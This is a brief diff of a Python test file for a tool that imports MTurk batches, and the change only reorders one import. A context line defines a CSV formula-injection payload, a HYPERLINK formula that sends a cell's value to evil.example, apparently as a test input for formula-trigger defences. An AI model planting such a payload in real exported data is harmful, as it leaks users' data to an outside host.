@@ -13,8 +13,8 @@ from click.testing import CliRunner
 from hitkit.cli import main
 from hitkit.db.session import session_scope
 from hitkit.imports.mturk import import_mturk
-from hitkit.tables.cells import FORMULA_TRIGGERS
 from hitkit.study.stored import StudyContext, resolve_secret
+from hitkit.tables.cells import FORMULA_TRIGGERS
 from tests.test_import_mturk import write_batch, write_mapping
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
